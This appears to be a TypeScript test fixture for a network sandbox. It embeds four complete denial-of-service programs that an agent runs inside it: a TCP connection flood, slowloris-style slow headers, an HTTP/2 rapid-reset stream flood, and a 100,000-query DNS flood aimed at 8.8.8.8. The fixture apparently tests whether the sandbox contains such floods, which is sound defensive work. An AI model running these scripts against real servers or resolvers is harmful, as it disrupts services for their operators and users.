// What an agent can send to take what is not its own: programs that say `flooding` once they have begun, `done` when they have
// sent it all, and hold what they have until their input ends.
import type { CompiledRule } from '../../protocol/snapshot.ts';
import { allow, inspect } from '../netns/snapshot-parts.ts';

export interface Flood {
  readonly name: string;
  readonly command: (place: { readonly node: string }) => readonly string[];
}

const block = '198.51.100.0/24';
/** Everything here is allowed: the flood is of what may be sent. */
export const floodRules: readonly CompiledRule[] = [
  allow([], { cidrs: [{ cidr: block }], ports: [443], protocol: 'TLS', allowedCidrs: [block] }),
  inspect(['api.test'], { access: 'Full' }),
  inspect(['plain.test'], { access: 'Full' }, { ports: [80] }),
];

const python =
  (script: string, ...args: readonly string[]) =>
  () => ['python3', '-c', script, ...args];

const connects = `
import resource, socket, struct, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
rounds, keep = int(sys.argv[1]), int(sys.argv[2])
abort = struct.pack('ii', 1, 0)
held = []
print('flooding', flush=True)
for n in range(rounds):
  s = socket.socket()
  try: s.connect(('198.51.100.77', 443))
  except OSError: s.close(); continue
  if len(held) < keep: held.append(s); continue
  if n % 3 == 0: s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, abort)
  elif n % 3 == 1: s.shutdown(socket.SHUT_WR)
  s.close()
print('done', flush=True)
sys.stdin.readline()
`;

const slowHeads = `
import resource, socket, sys, time
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
count = int(sys.argv[1])
held = []
address = socket.gethostbyname('plain.test')
for n in range(count):
  s = socket.create_connection((address, 80)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: plain.test\\r\\n'); held.append(s)
print('flooding', flush=True)
open_, end = held, time.time() + 40
while open_ and time.time() < end:
  time.sleep(1)
  left = []
  for s in open_:
    try:
      s.sendall(b'x'); s.setblocking(False)
      try: answered = True; s.recv(100)
      except BlockingIOError: answered = False
      s.setblocking(True)
    except OSError: answered = True
    if answered: s.close()
    else: left.append(s)
  open_ = left
print('open', len(open_), flush=True)
print('done' if not open_ else 'still open', flush=True)
sys.stdin.readline()
`;

const rapidReset = `
const http2 = require('node:http2');
let connections = 0, streams = 0;
process.stdout.write('flooding\\n');
function round() {
  if (++connections > 12) { process.stdout.write('done\\n'); process.stdin.once('data', () => process.exit()); return; }
  const session = http2.connect('https://api.test');
  session.on('error', () => undefined).on('close', round);
  session.on('connect', () => {
    const timer = setInterval(() => {
      if (session.destroyed || ++streams > 1e6) return clearInterval(timer);
      for (let n = 0; n < 50 && !session.destroyed; n++) {
        try { const s = session.request({ ':path': '/' }); s.on('error', () => undefined); s.close(8); } catch { break; }
      }
    }, 1);
    setTimeout(() => session.destroy(), 2000).unref();
  });
}
round();
`;

const names = `
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', 53)); s.setblocking(False)
print('flooding', flush=True)
for n in range(int(sys.argv[1])):
  labels = b''.join(bytes([len(l)]) + l.encode() for l in f'n{n}.flood.example'.split('.')) + bytes(1)
  try: s.send(struct.pack('>HHHHHH', n & 65535, 0x100, 1, 0, 0, 0) + labels + struct.pack('>HH', 1, 1))
  except OSError: pass
  try:
    while True: s.recv(512)
  except OSError: pass
print('done', flush=True)
sys.stdin.readline()
`;

export const floods: readonly Flood[] = [
  { name: 'R03 five thousand connections, a thousand of them held', command: python(connects, '5000', '1000') },
  { name: 'R01 fifteen hundred heads, a byte a second', command: python(slowHeads, '1500') },
  { name: 'H22 streams reset as they begin', command: ({ node }) => [node, '-e', rapidReset] },
  { name: 'R14 a hundred thousand names', command: python(names, '100000') },
];
